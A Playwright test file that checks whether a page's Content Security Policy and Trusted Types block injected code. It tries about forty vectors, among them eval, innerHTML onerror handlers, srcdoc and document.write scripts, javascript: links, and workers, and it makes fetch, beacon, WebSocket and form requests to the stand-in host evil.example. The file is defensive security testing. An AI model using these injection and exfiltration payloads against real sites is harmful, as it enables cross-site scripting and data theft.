import { expect } from '@playwright/test'
import { openWindow, test } from './window'

test('the policy stops what a text that became code would do', async ({ page, context }) => {
  await openWindow(page)
  const asked: string[] = []
  // What the policy stops is announced as well, and fails by that name.
  context.on('requestfinished', (request) => asked.push(request.url()))
  context.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') asked.push(request.url())
  })
  const found = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
    const ran: string[] = []
    let now = ''
    Object.assign(window, { ran: (what: string) => ran.push(`${now} ${what}`) })
    const append = (name: string, attributes: Readonly<Record<string, string>>, more: (element: HTMLElement) => void = () => undefined): void => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      more(element)
      document.body.append(element)
    }
    const code = `window.ran('x')`
    const attempts: Readonly<Record<string, () => unknown>> = {
      eval: () => (Reflect.get(window, 'eval') as (text: string) => unknown)(code),
      function: () => (Reflect.apply(Reflect.get(window, 'Function') as (text: string) => unknown, null, [code]) as () => unknown)(),
      timer: () => setTimeout(code as unknown as () => void, 0),
      markup: () => (document.body.innerHTML += `<img src=x onerror="${code}">`),
      srcdoc: () => append('iframe', {}, (frame) => Object.assign(frame, { srcdoc: `<script>parent.${code}</script>` })),
      parser: () => document.write(`<script>${code}</script>`),
      fragment: () => document.createRange().createContextualFragment(`<img src=x onerror="${code}">`),
      domParser: () => new DOMParser().parseFromString(`<img src=x onerror="${code}">`, 'text/html'),
      inlineScript: () => append('script', {}, (script) => (script.textContent = code)),
      dataScript: () => append('script', {}, (script) => Object.assign(script, { src: `data:text/javascript,${code}` })),
      otherScript: () => append('script', {}, (script) => Object.assign(script, { src: 'https://evil.example/x.js' })),
      handler: () => append('img', { src: 'data:,x', onerror: code }),
      scriptLink: () => append('a', { href: `javascript:${code}` }, (link) => link.click()),
      worker: () => new Worker('https://evil.example/x.js'),
      dataWorker: () => new Worker(`data:text/javascript,postMessage(1)`),
      blobWorker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
      module: () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
      fetch: () => fetch('https://evil.example/'),
      request: () => {
        const request = new XMLHttpRequest()
        request.open('GET', 'https://evil.example/', true)
        request.send()
      },
      beacon: () => navigator.sendBeacon('https://evil.example/', 'x'),
      socket: () => new WebSocket('wss://evil.example/'),
      events: () => new EventSource('https://evil.example/'),
      picture: () => append('img', { src: 'https://evil.example/x.png' }),
      sheet: () => append('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
      style: () => append('div', { style: 'background: url(https://evil.example/x.png)' }),
      styleElement: () => append('style', {}, (style) => (style.textContent = '@import url(https://evil.example/x.css); body { background: red }')),
      font: () => new FontFace('x', 'url(https://evil.example/x.woff2)').load(),
      film: () => append('video', { src: 'https://evil.example/x.mp4' }),
      frame: () => append('iframe', { src: 'https://evil.example/' }),
      own: () => append('iframe', { src: location.href }),
      object: () => append('object', { data: 'https://evil.example/x.pdf' }),
      embed: () => append('embed', { src: 'https://evil.example/x.pdf' }),
      base: () => append('base', { href: 'https://evil.example/' }),
      form: () => append('form', { action: 'https://evil.example/', method: 'post' }, (form) => queueMicrotask(() => (form as HTMLFormElement).submit())),
      ahead: () => append('link', { rel: 'prefetch', href: 'https://evil.example/x' }),
      policyAgain: () => (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => { createHTML: (text: string) => unknown } } }).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
      policyMore: () => (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
    }
    const stopped: string[] = []
    // What a debugger runs at once may do more than the page.
    await new Promise((resolve) => setTimeout(resolve, 0))
    for (const [name, attempt] of Object.entries(attempts)) {
      const before = violations.length
      now = name
      let error: unknown = null
      try {
        await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 150))])
      } catch (thrown) {
        error = thrown
      }
      await new Promise((resolve) => setTimeout(resolve, 60))
      if (error !== null || violations.length > before) stopped.push(name)
    }
    return { all: Object.keys(attempts), stopped, ran, base: document.baseURI === location.href, background: getComputedStyle(document.body).backgroundColor }
  })
  expect(found.ran).toEqual([])
  expect(asked.filter((url) => /evil\.example/u.test(url))).toEqual([])
  expect(found.all.filter((name) => !found.stopped.includes(name))).toEqual([])
  expect(found.base).toBe(true)
  expect(found.background).not.toBe('rgb(255, 0, 0)')
})
